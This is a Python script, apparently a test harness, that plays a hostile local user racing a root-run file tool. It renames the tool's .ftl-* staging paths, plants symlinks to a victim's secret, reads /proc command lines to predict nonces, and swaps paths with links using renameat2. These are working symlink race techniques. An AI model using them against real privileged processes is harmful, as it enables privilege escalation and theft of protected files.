"""Another user of a host, who owns a folder and does his worst in it.

usage: racer.py UID FOLDER VICTIM ATTACK

ATTACK is one of these:
  stage  what appears as .ftl-* is renamed away, and a folder of ours put there
  plant  names that stand in a command line are planted as links to VICTIM/secret
  file   what appears as .ftl-* is replaced by a link to VICTIM or its secret
  middle FOLDER/sub is exchanged, again and again, for a link to VICTIM
  place  FOLDER/f is exchanged, again and again, for links to VICTIM/secret

Says "ready" when it begins; ends with its stdin. Writes VICTIM nowhere: it has
no rights there.
"""
import ctypes
import os
import random
import re
import sys
import threading
import time

uid, folder, victim, attack = int(sys.argv[1]), *sys.argv[2:]
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
secret = victim + "/secret"

# About as long as root takes from one look at a name to the next, in seconds.
LONGEST = 0.05


def wait():
    sys.stdin.read()
    os._exit(0)


def quietly(do, *args):
    try:
        do(*args)
    except OSError:
        pass


def set_trap(path):
    """Puts a folder with links and a harmful script at a path."""
    os.mkdir(path)
    with open(path + "/install", "w") as script:
        script.write("id -u >%s/harm\n" % folder)
    os.mkdir(path + "/new")
    os.symlink(secret, path + "/new/f")
    os.symlink(secret, path + "/f")


def stage():
    count = 0
    while True:
        for name in os.listdir(folder):
            path = folder + "/" + name
            if name.startswith(".ftl-") and os.lstat(path).st_uid != uid:
                count += 1
                # Before it is entered, or only after that.
                time.sleep(random.choice((0, LONGEST)) * random.random())
                os.rename(path, "%s/moved-%d" % (folder, count))
                set_trap(path)


def as_link():
    count = 0
    while True:
        for name in os.listdir(folder):
            path = folder + "/" + name
            if name.startswith(".ftl-") and os.lstat(path).st_uid != uid:
                count += 1
                # Before it is entered, or only after that.
                time.sleep(random.choice((0, LONGEST)) * random.random())
                os.rename(path, "%s/moved-%d" % (folder, count))
                os.symlink(victim if count % 2 else secret, path)


def plant():
    seen = set()
    while True:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            with open("/proc/%s/cmdline" % pid, "rb") as text:
                found = re.findall(rb"ftl-([0-9a-f]{32})", text.read())
            for nonce in set(found) - seen:
                seen.add(nonce)
                os.symlink(secret, "%s/.ftl-%s" % (folder, nonce.decode()))


def swap(name, target):
    """Exchanges a name and a link, in one step, for times that differ."""
    mine, link = (folder + "/" + n for n in (name, name + "-link"))
    names = (-100, mine.encode(), -100, link.encode(), 2)  # RENAME_EXCHANGE
    exchange = ctypes.CDLL(None).renameat2
    while True:
        if not os.path.islink(mine) and not os.path.islink(link):
            quietly(os.unlink, link)  # a push has replaced the other one
            os.symlink(target, link)
        exchange(*names)
        time.sleep(random.random() * LONGEST)


def main():
    threading.Thread(target=wait, daemon=True).start()
    print("ready", flush=True)
    while True:
        try:
            if attack == "stage":
                stage()
            elif attack == "file":
                as_link()
            elif attack == "plant":
                plant()
            elif attack == "middle":
                swap("sub", victim)
            else:
                swap("f", secret)
        except OSError:
            pass


main()
